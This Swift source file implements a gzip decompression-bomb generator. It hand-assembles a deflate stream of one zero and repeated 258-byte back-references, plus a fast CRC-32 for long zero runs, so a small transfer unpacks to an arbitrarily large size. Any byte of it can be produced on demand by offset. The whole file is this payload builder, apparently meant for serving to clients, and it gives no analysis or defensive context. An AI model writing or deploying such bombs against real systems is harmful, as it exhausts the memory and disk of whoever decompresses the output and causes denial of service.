/// Many zeros, gzipped (RFC 1952) by hand: any part of it can be had without the rest.
///
/// One deflate block with fixed codes (RFC 1951 §3.2.6): a literal zero, and 258 copies of what stands before, again
/// and again, at 13 bits each.
struct GzipBomb {
    private static let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]
    /// Last block, fixed codes; the literal 0.
    private static let opening: [UInt8] = [1, 1, 0, 0, 0, 1, 1, 0, 0, 0, 0]
    /// Length 258 from distance 1.
    private static let copy: [UInt8] = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0]
    private static let endLength: Int64 = 7

    private let copies: Int64
    private let deflatedLength: Int64
    private let trailer: [UInt8]
    /// Bytes inside the run of copies, by their position modulo 13.
    private let period: [UInt8]

    /// On the wire.
    var length: Int64 { Int64(Self.header.count) + deflatedLength + Int64(trailer.count) }

    /// - Parameter size: how many bytes it unpacks to, rounded up to what copies make.
    init(size: Int64) {
        copies = (max(size, 1) - 1 + 257) / 258
        let bits = Int64(Self.opening.count) + copies * Int64(Self.copy.count) + Self.endLength
        deflatedLength = (bits + 7) / 8
        let count = 1 + copies * 258
        trailer =
            Self.littleEndian(Self.checksum(ofZeros: count)) + Self.littleEndian(UInt32(truncatingIfNeeded: count))
        period = (0..<13).map { position in
            (0..<8).reduce(0) { byte, bit in
                // 26 is a multiple of 13 that keeps the offset from the opening positive.
                byte | Self.copy[(position * 8 + bit - Self.opening.count + 26) % 13] << UInt8(bit)
            }
        }
    }

    /// The bytes from an offset on; `offset + count` must not be beyond ``length``.
    func bytes(at offset: Int64, count: Int) -> [UInt8] {
        (offset..<offset + Int64(count)).map(byte)
    }

    private func byte(_ offset: Int64) -> UInt8 {
        let headerLength = Int64(Self.header.count)
        if offset < headerLength { return Self.header[Int(offset)] }
        let position = offset - headerLength
        if position >= deflatedLength { return trailer[Int(position - deflatedLength)] }
        let end = Int64(Self.opening.count) + copies * Int64(Self.copy.count)
        if position >= 2, position * 8 + 8 <= end { return period[Int(position % 13)] }
        return (0..<8).reduce(0) { byte, bit in byte | self.bit(position * 8 + Int64(bit), end) << UInt8(bit) }
    }

    private func bit(_ index: Int64, _ end: Int64) -> UInt8 {
        let opening = Int64(Self.opening.count)
        if index < opening { return Self.opening[Int(index)] }
        return index < end ? Self.copy[Int((index - opening) % 13)] : 0
    }

    private static func littleEndian(_ word: UInt32) -> [UInt8] {
        (0..<4).map { UInt8(truncatingIfNeeded: word >> (8 * $0)) }
    }

    /// CRC-32 of so many zero bytes, in time proportional to the number's digits.
    ///
    /// To take in a zero bit is a linear map of the register; many of them are that map's power.
    private static func checksum(ofZeros count: Int64) -> UInt32 {
        func apply(_ map: [UInt32], _ word: UInt32) -> UInt32 {
            (0..<32).reduce(0) { $0 ^ (word >> UInt32($1) & 1 == 1 ? map[$1] : 0) }
        }
        var power = (0..<32).map { column -> UInt32 in column == 0 ? 0xEDB8_8320 : 1 << UInt32(column - 1) }
        var (register, bits) = (UInt32.max, count * 8)
        while bits > 0 {
            if bits & 1 == 1 { register = apply(power, register) }
            power = power.map { apply(power, $0) }
            bits >>= 1
        }
        return ~register
    }
}
